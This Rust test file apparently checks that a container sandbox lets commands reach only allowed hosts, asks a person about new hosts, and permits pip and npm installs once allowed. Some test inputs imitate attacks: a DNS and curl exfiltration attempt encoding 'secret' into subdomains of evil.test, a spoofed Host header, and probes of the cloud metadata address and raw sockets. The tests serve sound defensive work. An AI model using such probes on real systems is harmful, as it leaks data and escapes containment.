//! Hosts by name from a container without a network: those that are allowed are reached through its guest, and nothing
//! else is. Servers and names are the test's own, as in [`fence_network`](super::fence_network).

use std::net::TcpListener;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::time::Duration;

use ringfence_docker::testing::{FULL, TestEngine};
use serde_json::{Value, json};

use crate::suite::fence_network_support::{self, Server, names_asked};
use crate::suite::fence_network_tools_support::TRUST;
use crate::suite::fence_support::{Fenced, Launcher, SOCKETS, wait_until};
use crate::suite::session::Session;
use crate::suite::support::Room;

/// A room whose commands run in containers, with what else is configured.
fn room(engine: &TestEngine, addresses: &str, more: &Value) -> Room {
    let room = fence_network_support::room(Launcher::Native, addresses, &[]);
    configure(&room, engine, more);
    room
}

fn configure(room: &Room, engine: &TestEngine, more: &Value) {
    let mut config = json!({ "docker": { "image": FULL }, "providerOptions": { "engine": engine.host() } });
    for (key, value) in more.as_object().unwrap() {
        match (&mut config[key], value) {
            (Value::Object(own), Value::Object(more)) => own.extend(more.clone()),
            (own, value) => *own = value.clone(),
        }
    }
    room.configure(&config.to_string());
}

#[track_caller]
fn contained(room: &Room, options: &[&str], text: &str) -> Fenced {
    let arguments =
        [&["run", "--no-gate", "--json", "--provider", "docker"], options, &["-c", text]].concat();
    Fenced::of(room.run(&arguments).json())
}

#[track_caller]
fn python(room: &Room, lines: &[String]) -> Fenced {
    let ran = contained(room, &[], &format!("python3 network.py {}", lines.join(" ")));
    assert_eq!(ran.code, 0, "{ran:?}");
    assert!(ran.promises("noWayOut"), "{ran:?}");
    ran
}

#[test]
fn allowed_hosts_are_reached_from_a_container_as_on_any_network() {
    let Some(engine) = TestEngine::shared() else { return };
    let server = Server::new();
    let port = server.port;
    let nobody = TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap().port();
    let rules = json!({ "allowedHosts": [format!("a.test:{port}"), format!(".test:{nobody}"), "127.0.0.1"] });
    let room = room(&engine, "127.0.0.1", &rules);
    let lines = [
        format!("waiting,a.test,{port}"),
        format!("loop,a.test,{port}"),
        format!("mapped,a.test,{port}"),
        format!("waiting,a.test,{nobody}"),
        format!("loop,a.test,{nobody}"),
        format!("many,a.test,{port},50"),
    ];
    let ran = python(&room, &lines);
    let want = [
        format!("('heard hello', {port})"),
        "('EINPROGRESS', True, 0)".to_owned(),
        "heard hello".to_owned(),
        "ECONNREFUSED".to_owned(),
        "('EINPROGRESS', True, 'ECONNREFUSED')".to_owned(),
        "50".to_owned(),
    ];
    let want: Vec<String> = lines.iter().zip(want).map(|(line, want)| format!("{line} {want}")).collect();
    assert_eq!(ran.stdout.lines().collect::<Vec<_>>(), want, "{ran:?}");
    assert_eq!(ran.resources(), Vec::<&str>::new(), "{ran:?}");
    let connections = ran.json["connections"].as_array().unwrap();
    assert_eq!(connections.len(), 53, "{connections:?}");
    let first = &connections[0];
    assert_eq!((&first["host"], &first["port"]), (&"a.test".into(), &port.into()));
    assert_eq!((&first["bytesOut"], &first["bytesIn"]), (&5.into(), &11.into()), "{first}");
    assert!(first["program"].as_str().unwrap().contains("python3"), "{first}");
    let log = room.run(&["log", "--network"]).expect(0).stdout;
    assert!(log.contains(&format!("a.test:{port}")) && log.contains("127.0.0.1"), "{log}");
}

#[test]
fn nothing_but_an_allowed_host_is_reached_from_a_container() {
    let Some(engine) = TestEngine::shared() else { return };
    let (server, other) = (Server::new(), Server::new());
    let rules = json!({ "allowedHosts": [format!("a.test:{}", server.port), "127.0.0.1:1"] });
    let room = room(&engine, "127.0.0.1", &rules);
    room.helper(&SOCKETS);
    let lines = [
        format!("waiting,b.test,{}", server.port),
        format!("loop,b.test,{}", server.port),
        format!("waiting,a.test,{}", other.port),
        format!("waiting,127.0.0.1,{}", other.port),
        "waiting,198.51.100.7,443".to_owned(),
        "waiting,198.18.77.77,443".to_owned(),
        format!("fast,a.test,{}", other.port),
        format!("swap,a.test,{},{},50", server.port, other.port),
    ];
    let ran = python(&room, &lines);
    assert!(!ran.stdout.contains("heard"), "{ran:?}");
    let resources = ran.resources();
    for refused in
        [format!("b.test:{}", server.port), format!("a.test:{}", other.port), "198.51.100.7:443".to_owned()]
    {
        assert!(resources.contains(&refused.as_str()), "{refused}: {resources:?}");
    }
    let asked = names_asked(&room);
    assert!(asked.lines().all(|name| name == "a.test"), "{asked}");
    let ways = [
        "tcp4 192.0.2.1 80",
        "tcp4 169.254.169.254 80",
        "tcp4-fastopen 192.0.2.1 80",
        "udp4-sendto 192.0.2.1 123",
        "tcp6 2001:db8::1 80",
        "tcp6 64:ff9b::c000:201 80",
        "raw4",
        "raw6",
        "packet",
        "netlink-netfilter",
        "vsock",
        "sctp",
    ];
    let script: String = ways.iter().map(|way| format!("echo \"{way}: $(./sockets {way})\"\n")).collect();
    let ran = contained(&room, &[], &script);
    let got: Vec<&str> = ran.stdout.lines().collect();
    assert_eq!(got.len(), ways.len(), "{ran:?}");
    assert!(got.iter().all(|line| line.contains(": refused ")), "{got:#?}");
    assert_eq!(other.heard(), 0, "{ran:?}");
}

#[test]
fn names_that_a_container_asks_for_stay_here() {
    let Some(engine) = TestEngine::shared() else { return };
    let room = room(&engine, "127.0.0.1", &json!({ "allowedHosts": ["a.test"] }));
    let ran = contained(&room, &[], "getent hosts c2VjcmV0.evil.test; curl -sS https://bW9yZQ.evil.test/");
    assert!(ran.stdout.contains("198.18."), "{ran:?}");
    assert_eq!(ran.resources(), ["bw9yzq.evil.test:443"], "{ran:?}");
    assert_eq!(names_asked(&room), "", "nobody else heard of them");
}

#[test]
fn an_allowed_name_leads_a_container_nowhere_else() {
    let Some(engine) = TestEngine::shared() else { return };
    let server = Server::new();
    let port = server.port;
    // The machine itself, unless a rule names its address.
    let room = room(&engine, "127.0.0.1", &json!({ "allowedHosts": [format!("a.test:{port}")] }));
    let ran = python(&room, &[format!("waiting,a.test,{port}"), format!("loop,a.test,{port}")]);
    assert_eq!(ran.stdout.matches("EACCES").count(), 2, "{ran:?}");
    assert_eq!(ran.resources(), [format!("a.test:{port}")], "{ran:?}");
    assert!(ran.json["violations"][0]["message"].to_string().contains("machine itself"), "{ran:?}");
    // Another name at the same address.
    configure(&room, &engine, &json!({ "allowedHosts": [format!("a.test:{port}"), "127.0.0.1"] }));
    let ran = python(&room, &[format!("hello,a.test,{port},evil.test")]);
    assert!(!ran.stdout.contains("shaken"), "{ran:?}");
    assert_eq!(ran.resources(), ["evil.test"], "{ran:?}");
    let ran = contained(&room, &[], &format!("curl -sS -m 20 -H 'Host: evil.test' http://a.test:{port}/"));
    assert_eq!(ran.resources(), ["evil.test"], "{ran:?}");
    assert!(server.heard.lock().unwrap().iter().all(Vec::is_empty));
}

#[test]
fn what_a_container_said_before_the_end_arrives() {
    const MUCH: usize = 3_000_000;
    let Some(engine) = TestEngine::shared() else { return };
    let server = Server::new();
    let port = server.port;
    let rules = json!({ "allowedHosts": [format!("a.test:{port}"), "127.0.0.1"] });
    let room = room(&engine, "127.0.0.1", &rules);
    let ran = python(&room, &[format!("leaves,a.test,{port},{MUCH}")]);
    let all = || server.heard.lock().unwrap().iter().any(|said| said.len() == MUCH);
    assert!(wait_until(Duration::from_secs(20), all), "{ran:?}");
    assert_eq!(ran.json["connections"][0]["bytesOut"], MUCH, "{ran:?}");
}

#[test]
fn a_port_of_the_host_is_reached_from_a_container_when_it_is_allowed() {
    let Some(engine) = TestEngine::shared() else { return };
    let server = Server::new();
    let port = server.port;
    let room = room(&engine, "127.0.0.1", &json!({}));
    let line = format!("waiting,127.0.0.1,{port}");
    let text = format!("python3 network.py {line}");
    let ran = contained(&room, &[], &text);
    assert!(!ran.stdout.contains("heard"), "{ran:?}");
    let ran = contained(&room, &["--allow-host", &format!("host-port:{port}")], &text);
    assert_eq!(ran.stdout.trim(), format!("{line} ('heard hello', {port})"), "{ran:?}");
}

#[test]
fn a_person_is_asked_about_a_host_that_a_container_wants() {
    let Some(engine) = TestEngine::shared() else { return };
    let server = Server::new();
    let port = server.port;
    let rules = json!({
        "allowedHosts": ["127.0.0.1"], "network": { "ask": true },
        "provider": "docker", "workspaceAccess": "rw", "scope": "session",
    });
    let room = room(&engine, "127.0.0.1", &rules);
    let mut session = Session::start(&room);
    let command = format!("python3 network.py waiting,a.test,{port} waiting,a.test,{port}");
    let mut answer = |id: u64, decision: &str| {
        session.send(&json!({ "id": id, "command": command }));
        let asked = session.until("permission_request");
        assert_eq!(asked["resource"], format!("a.test:{port}"), "{asked}");
        let before = names_asked(&room);
        session.send(&json!({ "permission": asked["permission"], "decision": decision }));
        (before, session.until("result")["result"].clone())
    };
    let (before, refused) = answer(1, "deny");
    assert_eq!(
        (server.heard(), before.as_str()),
        (0, ""),
        "nobody looks for it before the answer: {refused}"
    );
    assert_eq!(names_asked(&room), "", "or after a no");
    // Each command is asked about anew, until the answer is for the session.
    for (id, decision) in [(2, "allow_once"), (3, "allow_session")] {
        let (_, reached) = answer(id, decision);
        assert_eq!(reached["stdout"].as_str().unwrap().matches("heard hello").count(), 2, "{reached}");
        assert_eq!(reached["connections"].as_array().unwrap().len(), 2, "{reached}");
    }
    let reached = session.run(4, &command);
    assert_eq!(reached["stdout"].as_str().unwrap().matches("heard hello").count(), 2, "{reached}");
    assert_eq!(session.end(), 0);
}

#[test]
fn where_a_container_cannot_hold_to_hosts_that_is_said() {
    let Some(engine) = TestEngine::shared() else { return };
    let server = Server::new();
    let rules = json!([format!("a.test:{}", server.port), "127.0.0.1"]);
    let room = room(&engine, "127.0.0.1", &json!({}));
    let text = format!("python3 network.py waiting,a.test,{}", server.port);
    let run = ["run", "--no-gate", "--provider", "docker", "-c", &text];
    for (more, words) in [
        (json!({ "allowNetwork": true }), "container that has a network"),
        (json!({ "docker": { "network": "bridge" } }), "the network \"bridge\""),
    ] {
        let mut more = more;
        more["allowedHosts"] = rules.clone();
        configure(&room, &engine, &more);
        let ran = room.run(&run).expect(125);
        assert!(ran.stderr.contains(words), "{ran:?}");
    }
    configure(&room, &engine, &json!({ "allowedHosts": rules, "providerOptions": { "guest": "off" } }));
    let ran = contained(&room, &[], &text);
    let degraded = ran.json["sandbox"]["degraded"].to_string();
    assert!(degraded.contains("noWayOut") && !ran.stdout.contains("heard"), "{ran:?}");
    assert_eq!(server.heard(), 0);
}

/// Puts what the host trusts into the project, and says where it is inside.
fn trusted(room: &Room) -> Option<&'static str> {
    let file = TRUST.iter().find_map(std::env::var_os).map(PathBuf::from);
    let file = file.unwrap_or_else(|| "/etc/ssl/certs/ca-certificates.crt".into());
    std::fs::copy(file, room.project.join("ca.pem")).ok().map(|_| "/workspace/ca.pem")
}

/// Whether the command works outside; else that is noted.
fn works(room: &Room, command: &str) -> bool {
    let mut shell = Command::new("sh");
    shell.args(["-c", command]).current_dir(&room.home).stdin(Stdio::null());
    let bare = shell.output().unwrap();
    if !bare.status.success() {
        let said = String::from_utf8_lossy(&bare.stderr);
        ringfence_testing::lacks("registries", &format!("{command}: {said}"));
    }
    bare.status.success()
}

/// Refused without its set, and done with it.
fn installs(room: &Room, set: &str, command: &str, made: &str) {
    let refused = contained(room, &[], command);
    assert!(refused.code != 0 && !room.project.join(made).exists(), "{refused:?}");
    let ran = contained(room, &["--allow-host", set], command);
    assert_eq!(ran.code, 0, "{ran:?}");
    assert!(room.project.join(made).exists(), "{ran:?}");
    let connections = ran.json["connections"].as_array().unwrap();
    assert!(!connections.is_empty(), "{ran:?}");
    assert!(connections.iter().all(|one| one["port"] == 443 && one["bytesIn"].as_u64() > Some(0)));
}

/// A room in which names are looked up as on the host.
fn plain_room(engine: &TestEngine) -> Room {
    let room = Room::new();
    configure(&room, engine, &json!({}));
    room
}

#[test]
fn pip_installs_in_a_container_without_a_network() {
    const PIP: &str =
        "python3 -m pip download --disable-pip-version-check --no-cache-dir --no-deps -d got six==1.16.0";
    let Some(engine) = TestEngine::shared() else { return };
    let room = plain_room(&engine);
    let Some(trusted) = trusted(&room).filter(|_| works(&room, PIP)) else { return };
    let set = format!("PIP_CERT={trusted} PIP_CONFIG_FILE=/workspace/pip.conf {PIP}");
    if Path::new("/etc/pip.conf").exists() {
        std::fs::copy("/etc/pip.conf", room.project.join("pip.conf")).unwrap();
    }
    installs(&room, "pypi", &set, "got/six-1.16.0-py2.py3-none-any.whl");
}

#[test]
fn npm_installs_in_a_container_without_a_network() {
    const NPM: &str = "install --no-audit --no-fund --no-update-notifier is-number@7.0.0";
    let Some(engine) = TestEngine::shared() else { return };
    let room = plain_room(&engine);
    let Some(trusted) = trusted(&room).filter(|_| works(&room, &format!("npm {NPM}"))) else { return };
    let registry = Command::new("npm").args(["config", "get", "registry"]).current_dir("/").output().unwrap();
    let registry = String::from_utf8(registry.stdout).unwrap();
    // The image has what node needs, and neither node nor npm.
    let script = "cp -L \"$(command -v node)\" node && cp -rL \"$(dirname \"$(readlink -f \"$(command -v npm)\")\")/..\" npm";
    let copied = Command::new("sh").args(["-c", script]).current_dir(&room.project).status().unwrap();
    assert!(copied.success());
    let command = format!(
        "NODE_EXTRA_CA_CERTS={trusted} npm_config_registry={} ./node npm/bin/npm-cli.js {NPM}",
        registry.trim()
    );
    installs(&room, "npm", &command, "node_modules/is-number/package.json");
}
